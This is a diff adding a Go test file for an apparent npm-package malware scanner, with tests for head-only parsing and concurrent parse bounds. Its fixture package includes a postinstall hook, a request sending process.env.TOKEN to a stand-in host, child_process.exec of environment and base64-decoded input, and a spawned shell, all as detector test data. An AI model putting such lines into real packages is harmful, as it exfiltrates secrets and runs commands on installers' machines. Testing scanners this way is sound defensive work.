@@ -1,0 +1,153 @@
+package scan_test
+
+import (
+	"context"
+	"fmt"
+	"reflect"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/moatproject/moat/scan"
+	"github.com/moatproject/moat/scan/rules"
+	"github.com/moatproject/moat/scan/sequence"
+)
+
+// headExtractor parses only the first max bytes of a file, as scan/features
+// does, and records the largest source it was handed. With announce set it
+// tells the scanner so (scan.HeadExtractor).
+type headExtractor struct {
+	fakeExtractor
+	max int
+
+	mu      sync.Mutex
+	largest int
+}
+
+func (h *headExtractor) Extract(ctx context.Context, p string, src []byte) (*sequence.FileEvents, error) {
+	h.mu.Lock()
+	h.largest = max(h.largest, len(src))
+	h.mu.Unlock()
+	cut := len(src) > h.max
+	if cut {
+		src = src[:h.max]
+	}
+	fe, err := h.fakeExtractor.Extract(ctx, p, src)
+	if fe != nil {
+		fe.Truncated = fe.Truncated || cut
+	}
+	return fe, err
+}
+
+type announcingHeadExtractor struct{ *headExtractor }
+
+func (a announcingHeadExtractor) MaxParseBytes() int { return a.max }
+
+// bigPackage is an npm package over the parse budget: an entry point
+// longer than the extractor's cap, library files, and a payload module whose
+// markers only show past the head of a large file.
+func bigPackage(t *testing.T) (string, []byte) {
+	t.Helper()
+	lib := strings.Repeat("function add(a, b) { return a + b; }\n", 2000) // ~74 KB
+	tail := strings.Repeat("const x = require('child_process'); x.exec(process.env.CMD);\n", 500)
+	files := map[string]string{
+		"package.json":   `{"name": "big", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node setup.js"}}`,
+		"index.js":       "const https = require('https');\n" + lib + lib + "https.request('https://x.example/' + process.env.TOKEN);\n",
+		"setup.js":       "require('./lib/a.js');\n",
+		"lib/a.js":       lib,
+		"lib/b.js":       lib,
+		"lib/c.js":       lib + tail, // dense markers only past the first 64 KiB
+		"lib/payload.js": "const cp = require('child_process'); cp.exec(Buffer.from(process.env.X, 'base64').toString());\n",
+		"bin/tool":       "#!/usr/bin/env node\n" + lib + "require('child_process').spawn('sh');\n",
+	}
+	return "big-1.0.0.tgz", tgz(t, "package/", files)
+}
+
+// A scanner that knows its extractor only parses heads keeps only heads,
+// and its report is the one it makes holding whole files: the parse budget
+// still ranks and counts whole files.
+func TestHeadsOnlyGiveTheSameReport(t *testing.T) {
+	fn, data := bigPackage(t)
+	const head = 64 << 10
+	opts := scan.Options{ParseBudget: 200 << 10}
+	plain := &headExtractor{max: head}
+	want := scan.New(plain, rules.New(), opts).Scan(context.Background(), scan.Input{Filename: fn, Data: data})
+	heads := &headExtractor{max: head}
+	got := scan.New(announcingHeadExtractor{heads}, rules.New(), opts).Scan(context.Background(), scan.Input{Filename: fn, Data: data})
+	if want.Error != "" || got.Error != "" {
+		t.Fatalf("errors: %q, %q", want.Error, got.Error)
+	}
+	want.DurationMS, got.DurationMS = 0, 0
+	if !reflect.DeepEqual(want, got) {
+		t.Errorf("reports differ:\nwhole files %+v\nheads       %+v", want, got)
+	}
+	if plain.largest <= head+1 {
+		t.Fatalf("the test package has no file over the cap (largest %d)", plain.largest)
+	}
+	if heads.largest > head+1 {
+		t.Errorf("the extractor was handed %d bytes, more than its cap + 1", heads.largest)
+	}
+	if !strings.Contains(strings.Join(got.Sequence, " "), "file.truncated") {
+		t.Errorf("no file.truncated in %v", got.Sequence)
+	}
+}
+
+// inFlightExtractor records the source bytes inside Extract at once.
+type inFlightExtractor struct {
+	fakeExtractor
+	mu       sync.Mutex
+	now, top int
+}
+
+func (e *inFlightExtractor) Extract(ctx context.Context, p string, src []byte) (*sequence.FileEvents, error) {
+	e.mu.Lock()
+	e.now += len(src)
+	e.top = max(e.top, e.now)
+	e.mu.Unlock()
+	defer func() {
+		e.mu.Lock()
+		e.now -= len(src)
+		e.mu.Unlock()
+	}()
+	time.Sleep(time.Millisecond)
+	return e.fakeExtractor.Extract(ctx, p, src)
+}
+
+// ParseInFlight bounds the source bytes in extraction across concurrent
+// scans; a file larger than the bound is still extracted, alone.
+func TestParseInFlightBoundsConcurrentScans(t *testing.T) {
+	const bound = 100 << 10
+	lib := strings.Repeat("function add(a, b) { return a + b; }\n", 1000) // ~37 KB
+	huge := strings.Repeat(lib, 4)                                        // over the bound
+	for _, withHuge := range []bool{false, true} {
+		ex := &inFlightExtractor{}
+		s := scan.New(ex, rules.New(), scan.Options{Parallel: 4, ParseInFlight: bound})
+		var wg sync.WaitGroup
+		for i := range 6 {
+			files := map[string]string{"package.json": fmt.Sprintf(`{"name": "p%d", "version": "1.0.0"}`, i)}
+			for j := range 5 {
+				files[fmt.Sprintf("lib/%d.js", j)] = lib
+			}
+			if withHuge && i == 0 {
+				files["lib/huge.js"] = huge
+			}
+			data := tgz(t, "package/", files)
+			wg.Add(1)
+			go func() {
+				defer wg.Done()
+				if r := s.Scan(context.Background(), scan.Input{Filename: "p.tgz", Data: data}); r.Error != "" {
+					t.Errorf("scan %d: %s", i, r.Error)
+				}
+			}()
+		}
+		wg.Wait()
+		limit := bound
+		if withHuge {
+			limit = len(huge) // it takes the whole bound: alone, over it
+		}
+		if ex.top > limit || ex.top == 0 {
+			t.Errorf("huge file %v: %d source bytes in extraction at once, want at most %d", withHuge, ex.top, limit)
+		}
+	}
+}
